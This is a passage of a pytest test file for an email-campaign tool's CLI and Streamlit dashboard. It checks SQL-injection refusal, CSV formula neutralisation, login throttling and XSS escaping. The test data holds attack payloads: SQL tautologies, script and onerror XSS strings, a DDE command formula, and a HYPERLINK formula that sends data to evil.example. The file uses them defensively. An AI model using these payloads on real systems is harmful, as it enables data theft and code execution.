                    {name} if kind in ("any", "exact", "cross_variant") else set(HOSTILE_NAMES)
                )
            assert len(reports.duplicate_details(engine, source, "any", campaign=name)) == 2
            assert reports.sends_timeline(engine, campaign=name).empty
            data = load_duplicates_data(engine, source, name)
            assert data.summary["duplicate_sends"] == 1
        finally:
            engine.dispose()
    all_imported = json.loads(cli("report", "duplicates", "--imported", label, "--json").stdout)
    assert all_imported["duplicate_sends"] == len(HOSTILE_NAMES)
    # A tautology is a name like any other: it matches no campaign, it does not match them all.
    for probe in ("' OR '1'='1", "%", "x' OR name LIKE '%"):
        refused = _in_process(["report", "duplicates", "--campaign", probe], env, capsys, monkeypatch)
        assert probe in _one_line_exit_2(refused, probe)
        refused = _in_process(["report", "duplicates", "--imported", probe], env, capsys, monkeypatch)
        _one_line_exit_2(refused, probe)
    _ok(run_cli(["report", "duplicates", "--imported", label, "--campaign", HOSTILE_NAMES[0], "--json"], env))
    assert _tables(db_url) == tables


# --------------------------------------------------------------------------------------------------
# 5. Dashboard: formula-safe CSV downloads, a throttled password gate, lead text shown as text
#    (in depth: tests/test_dashboard_auth.py, tests/test_pages.py)
# --------------------------------------------------------------------------------------------------

FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]


def _import_log(url: str, rows: list[list[str]], label: str) -> None:
    from sender.sendlog_import import import_sendlog

    engine = make_engine(url)
    try:
        result = import_sendlog(engine, _csv_bytes(rows), label=label, source="test.csv")
    finally:
        engine.dispose()
    assert result["rejected"] == [], result


def _all_protos(at: object) -> str:
    """Every element the run produced, as protobuf text (tables included, as Arrow bytes)."""
    out: list[str] = []

    def walk(node: object) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None:
            out.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)  # type: ignore[attr-defined]
    return "\n".join(out)


@pytest.mark.usefixtures("isolated")  # tests/_dashboard.py: no password, loopback, fresh throttle
def test_csv_download_bytes_neutralise_formulas(demo_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The bytes the Duplicates page's download button serves: every cell a spreadsheet would evaluate
    (= + - @, or a tab/CR in front of one) starts with an apostrophe."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    from tests._dashboard import app, ok

    rows = [["campaignId", "leadId", "variantLetter", "createdAt", "host"]]
    for i, cell in enumerate(FORMULA_CELLS):
        rows += [[f"+camp{i}", cell, "A", f"2024-03-12 11:{i:02d}:00", "=1+2"]] * 2
    _import_log(demo_url, rows, "formulas")

    served: list[tuple[str | None, bytes]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def record(
        self: MemoryMediaFileStorage,
        data: str | bytes,
        mimetype: str,
        kind: object,
        filename: str | None = None,
    ) -> str:
        if isinstance(data, bytes) and mimetype == "text/csv":
            served.append((filename, data))
        return original(self, data, mimetype, kind, filename)  # type: ignore[arg-type]

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    at = ok(app(monkeypatch, demo_url))
    ok(at.switch_page("pages/duplicates.py").run())
    ok(at.selectbox(key="sg_dup_source").select("imported:formulas").run())
    assert at.download_button(key="sg_dup_csv")
    filename, data = served[-1]
    assert filename == "duplicates-any.csv"
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]
    # (the importer trims cells, so "\t=1+1" is stored, and served, as "=1+1")
    for cell in FORMULA_CELLS + ["=1+2"] + [f"+camp{i}" for i in range(len(FORMULA_CELLS))]:
        assert "'" + cell.strip() in cells, f"{cell!r} is not served neutralised"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous

    # A leading tab or CR (OWASP's list) survives other paths into a table: the same function the
    # button serves through neutralises it too.
    import pandas as pd

    from dashboard_data import csv_bytes

    # A line break inside a cell must stay inside it (quoted), or the text after it starts a new row
    # whose first cell is an unneutralised formula.
    embedded = ["x\r=1+1", "y\n@SUM(A1)", "z\r\n-1"]
    frame = pd.DataFrame({"lead": FORMULA_CELLS + embedded, "n": range(len(FORMULA_CELLS) + len(embedded))})
    served_rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))[1:]
    assert [row[0] for row in served_rows] == ["'" + cell for cell in FORMULA_CELLS] + embedded
    assert [int(row[1]) for row in served_rows] == list(range(len(frame)))


PASSWORD = "correct horse battery staple"


@pytest.mark.usefixtures("isolated")
def test_password_gate_throttles_repeated_failures(demo_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Wrong passwords lock the login for a while (for every session of the process); during the
    lockout even the right password is refused; afterwards it opens."""
    import dashboard_ui
    from tests._dashboard import app, ok, shown

    now = [1000.0]
    monkeypatch.setattr(dashboard_ui, "_clock", lambda: now[0])  # lockouts pass without sleeping
    monkeypatch.setenv("SENDGUARD_DASHBOARD_PASSWORD", PASSWORD)

    def login(at: object, password: str) -> object:
        at.text_input(key="sg_login_name").input("Marta")  # type: ignore[attr-defined]
        at.text_input(key="sg_login_password").input(password)  # type: ignore[attr-defined]
        return at.button(key="sg_login_submit").click().run()  # type: ignore[attr-defined]

    def locked_out(at: object) -> bool:
        return not at.dataframe and any("try again" in m for m in shown(at.error))  # type: ignore[attr-defined]

    at = app(monkeypatch, demo_url)
    for attempt in range(dashboard_ui.FREE_ATTEMPTS):
        login(at, f"guess {attempt}")
        assert not at.dataframe and any("Wrong password" in m for m in shown(at.error))
    login(at, PASSWORD)
    assert locked_out(at), shown(at.error)
    other = login(app(monkeypatch, demo_url), PASSWORD)  # a new session does not reset the count
    assert locked_out(other), shown(other.error)
    now[0] += dashboard_ui.lockout_after(dashboard_ui.FREE_ATTEMPTS) + 0.1
    ok(login(at, PASSWORD))
    assert [t.value for t in at.title] == ["Campaigns"] and at.dataframe


@pytest.mark.usefixtures("isolated")
def test_lead_and_operator_text_is_shown_as_text_and_no_secret_reaches_a_page(
    demo_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """HTML/JS in a campaign name, a pause reason, an actor, an SMTP reply and an imported log's lead and
    host is shown verbatim in tables and escaped in Markdown on every page; no page renders raw HTML at
    all (source grep); the SMTP password in the dashboard's environment appears on no page."""
    from tests._dashboard import PAGES, app, ok

    _sql(demo_url, "UPDATE campaign SET name = :n WHERE name = 'welcome-series'", {"n": XSS[1]})
    _sql(demo_url, "UPDATE campaign SET pause_reason = :r WHERE pause_reason IS NOT NULL", {"r": XSS[0]})
    _sql(demo_url, "UPDATE campaign_event SET actor = :a, reason = :r", {"a": XSS[1], "r": XSS[0]})
    _sql(demo_url, "UPDATE send_log SET smtp_reply = :r WHERE status = 'unknown'", {"r": XSS[0]})
    rows = [["campaignId", "leadId", "variantLetter", "createdAt", "host"]]
    rows += [
        [XSS[1], XSS[0], "A", "2024-03-12 11:40:00", XSS[1]],
        [XSS[1], XSS[0], "B", "2024-03-12 11:41:00", XSS[1]],
    ]
    _import_log(demo_url, rows, XSS[0])
    monkeypatch.setenv("SENDGUARD_SMTP_URL", f"smtp://user:{SMTP_SECRET}@127.0.0.1:2525")

    unescaped = ("<script", "<img")
    at = ok(app(monkeypatch, demo_url))
    seen = ""
    for page in PAGES:
        ok(at.switch_page(f"pages/{page}.py").run())
        for kind in (
            "markdown",
            "caption",
            "success",
            "info",
            "warning",
            "error",
            "title",
            "subheader",
            "header",
        ):
            for element in getattr(at, kind):
                value = str(element.value)
                assert not any(f"{u}" in value.replace("\\<", "") for u in unescaped), (page, kind, value)
        for frame in at.dataframe:
            seen += frame.value.to_csv()
        everything = _all_protos(at)
        _assert_no_secret({f"page {page}": everything}, SMTP_SECRET)
    for value in XSS:
        assert value in seen, f"{value!r} was not shown (as text) anywhere"

    sources = [
        ROOT / "dashboard.py",
        ROOT / "dashboard_ui.py",
        ROOT / "dashboard_data.py",
        *(ROOT / "pages").glob("*.py"),
    ]
    assert len(sources) >= 9
    for path in sources:
        code = path.read_text(encoding="utf-8")
        for needle in ("unsafe_allow_html", "st.html", "components.html", "st.components"):
            assert needle not in code, f"{path.name} uses {needle}"
